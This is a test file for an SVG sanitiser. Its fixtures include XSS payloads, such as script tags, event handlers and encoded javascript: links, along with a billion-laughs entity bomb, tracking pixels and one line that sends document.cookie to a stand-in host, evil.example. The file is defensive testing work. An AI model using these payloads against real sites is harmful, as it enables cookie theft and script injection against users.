import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { Parser } from 'htmlparser2';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { projectRoot } from '../../lib/project-root';
import { sanitiseSvg } from './svg-sanitiser';

const SVG_OPEN =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" width="100" height="100">';
const wrap = (body: string) => `${SVG_OPEN}${body}<rect width="10" height="10" fill="#2b2f86"/></svg>`;

/** Reads the cleaned SVG as XML and lists everything in it that could run, load or leak. */
function dangersIn(svg: string): string[] {
  const dangers: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attribs) {
        if (
          !/^(svg|g|defs|symbol|use|title|desc|path|rect|circle|ellipse|line|polyline|polygon|text|tspan|textPath|linearGradient|radialGradient|stop|pattern|clipPath|mask|marker|filter|fe[A-Z]\w+)$/.test(
            name,
          ) ||
          name === 'feImage'
        ) {
          dangers.push(`element ${name}`);
        }
        for (const [attribute, value] of Object.entries(attribs)) {
          if (/^on/i.test(attribute.split(':').pop()!)) dangers.push(`handler ${attribute}`);
          if (/href$/i.test(attribute) && !value.startsWith('#')) dangers.push(`link ${value}`);
          if (/url\s*\(\s*(?!#)/i.test(value)) dangers.push(`reference ${value}`);
          if (/script:/i.test(value.replace(/\s+/g, ''))) dangers.push(`script url ${value}`);
        }
      },
      onprocessinginstruction(name) {
        dangers.push(`instruction ${name}`);
      },
      oncomment() {
        dangers.push('comment');
      },
      onerror(error) {
        dangers.push(`not XML: ${error.message}`);
      },
    },
    { xmlMode: true },
  );
  parser.write(svg);
  parser.end();
  return dangers;
}

const HOSTILE: [string, string][] = [
  ['a script element', wrap('<script>alert(document.cookie)</script>')],
  [
    'a script in CDATA',
    wrap('<script type="text/ecmascript"><![CDATA[ fetch("https://evil.example/?c=" + document.cookie) ]]></script>'),
  ],
  [
    'a script with a namespace prefix',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script><rect width="1" height="1"/></svg>',
  ],
  ['a script in capitals', wrap('<SCRIPT>alert(1)</SCRIPT>')],
  [
    'an onload handler on the root',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>',
  ],
  [
    'handlers on shapes',
    wrap('<rect width="5" height="5" onclick="alert(1)" OnMouseOver="alert(2)" onfocusin="alert(3)"/>'),
  ],
  ['a javascript: link', wrap('<a href="javascript:alert(1)"><text x="1" y="9">Win a prize</text></a>')],
  ['an entity-encoded javascript: link', wrap('<a xlink:href="&#106;ava&#x73;cript:alert(1)"><circle r="4"/></a>')],
  ['a javascript: link broken by whitespace', wrap('<a href=" java\tscript:alert(1)"><circle r="4"/></a>')],
  [
    'HTML inside foreignObject',
    wrap(
      '<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example"></iframe><img src="x" onerror="alert(1)"/></body></foreignObject>',
    ),
  ],
  [
    'an animation that sets a link',
    wrap('<a href="#ok"><set attributeName="href" to="javascript:alert(1)"/><circle r="4"/></a>'),
  ],
  [
    'an animation that sets a handler',
    wrap('<rect width="5" height="5"><animate attributeName="onbegin" values="alert(1)"/></rect>'),
  ],
  ['embedded documents', wrap('<iframe src="https://evil.example"/><embed src="evil.swf"/><object data="evil.html"/>')],
  [
    'an event listener element',
    wrap(
      '<handler type="application/ecmascript" ev:event="load">alert(1)</handler><listener event="click" handler="#h"/>',
    ),
  ],
];

const LEAKY: [string, string][] = [
  ['a tracking picture', wrap('<image href="https://tracker.example/pixel.png" width="1" height="1"/>')],
  ['a picture linked with xlink', wrap('<image xlink:href="http://tracker.example/p.png" width="1" height="1"/>')],
  ['a symbol from another file', wrap('<use href="https://evil.example/sprite.svg#icon"/>')],
  [
    'a data: document in use',
    wrap('<use href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"/>'),
  ],
  ['a paint server on another site', wrap('<rect width="5" height="5" fill="url(https://evil.example/p.svg#g)"/>')],
  [
    'a style attribute loading a file',
    wrap('<rect width="5" height="5" style="fill:url(http://evil.example/x);stroke:#000"/>'),
  ],
  [
    'a style sheet importing another',
    wrap('<style>@import url("https://evil.example/x.css"); rect { fill: url(https://evil.example/p) }</style>'),
  ],
  ['a filter picture', wrap('<filter id="f"><feImage href="https://evil.example/x.png"/></filter>')],
];

describe('sanitiseSvg', () => {
  it.each(HOSTILE)('removes %s and reports it as script', (_name, svg) => {
    const result = sanitiseSvg(svg);
    expect(result.findings.activeContent.length).toBeGreaterThan(0);
    expect(dangersIn(result.svg)).toEqual([]);
    expect(result.svg).not.toMatch(/script|alert|iframe|foreignObject|evil/i);
  });

  it.each(LEAKY)('removes %s and reports what it removed', (_name, svg) => {
    const result = sanitiseSvg(svg);
    expect(result.findings.activeContent).toEqual([]);
    expect(result.findings.removed.length).toBeGreaterThan(0);
    expect(dangersIn(result.svg)).toEqual([]);
    expect(result.svg).not.toMatch(/evil|tracker|data:|@import/);
  });

  it('names what it found, for the message a member of staff reads', () => {
    const { findings } = sanitiseSvg(
      wrap(
        '<script>x()</script><rect onclick="y()"/><image href="https://tracker.example/p.png"/><use href="https://evil.example/s.svg#i"/><style>.a{fill:red}</style>',
      ),
    );
    expect(findings.activeContent).toEqual(['the <script> element', 'the onclick attribute']);
    expect(findings.removed).toEqual([
      'a picture inside the drawing (<image>)',
      'a link to https://evil.example/s.svg#i',
      'a style sheet (<style>)',
    ]);
  });

  it('keeps only local references, written as plain href', () => {
    const { svg } = sanitiseSvg(
      wrap(
        '<defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient><path id="p" d="M0 0h9"/></defs><use xlink:href="#p"/><rect width="5" height="5" fill="url(#g)" style="fill: url(#g); stroke: rgb(0, 0, 0)"/>',
      ),
    );
    expect(svg).toContain('<use href="#p"/>');
    expect(svg).toContain('fill="url(#g)"');
    expect(svg).toContain('style="fill:url(#g);stroke:rgb(0, 0, 0)"');
    expect(dangersIn(svg)).toEqual([]);
  });

  it('drops the document type and its entities, so no entity is ever expanded', () => {
    const laughs =
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>' +
      wrap('<text x="1" y="9">&c;</text>');
    const { svg } = sanitiseSvg(laughs);
    expect(svg).not.toMatch(/ENTITY|DOCTYPE|lol/);
    expect(svg.length).toBeLessThan(laughs.length);
    expect(dangersIn(svg)).toEqual([]);
  });

  it('keeps one drawing: comments, instructions and anything after the root element go', () => {
    const { svg } = sanitiseSvg(
      `<!-- <script>alert(1)</script> -->${wrap('<!-- note -->')}<script>alert(2)</script><svg><rect/></svg>trailing text`,
    );
    expect(svg.match(/<svg/g)).toHaveLength(1);
    expect(svg.endsWith('</svg>')).toBe(true);
    expect(dangersIn(svg)).toEqual([]);
  });

  it('adds the SVG namespace to a root that lacks it, and escapes what it keeps', () => {
    const { svg } = sanitiseSvg(
      '<svg viewBox="0 0 10 10"><text x="1" y="5" id="a&quot;&gt;&lt;script">5 &lt; 6 &amp; "fine"</text></svg>',
    );
    expect(svg).toBe(
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><text x="1" y="5" id="a&quot;&gt;&lt;script">5 &lt; 6 &amp; "fine"</text></svg>',
    );
  });

  it('finds nothing to keep in a file whose first element is not <svg>', () => {
    expect(sanitiseSvg('<html><svg><rect/></svg></html>').svg).toBe('');
  });

  it('keeps Indian-language text with its joiners', () => {
    const { svg } = sanitiseSvg(
      wrap('<text x="1" y="9" lang="hi">बचत खाता क्\u200Dया है</text><text x="1" y="20" lang="ml">ന്\u200Cമ</text>'),
    );
    expect(svg).toContain('बचत खाता क्\u200Dया है');
    expect(svg).toContain('ന്\u200Cമ');
  });

  it('leaves every drawing of the sample content looking exactly as before', async () => {
    const dir = path.join(projectRoot(fileURLToPath(import.meta.url)), 'sample-content', 'files');
    const files = (fs.readdirSync(dir, { recursive: true }) as string[]).filter((file) => file.endsWith('.svg'));
    expect(files.length).toBeGreaterThan(20);
    for (const file of files) {
      const original = fs.readFileSync(path.join(dir, file), 'utf8');
      const result = sanitiseSvg(original);
      expect(result.findings, file).toEqual({ activeContent: [], removed: [] });
      const [before, after] = await Promise.all([
        sharp(Buffer.from(original)).raw().toBuffer(),
        sharp(Buffer.from(result.svg)).raw().toBuffer(),
      ]);
      expect(after.equals(before), `${file} draws differently once cleaned`).toBe(true);
    }
  });
});
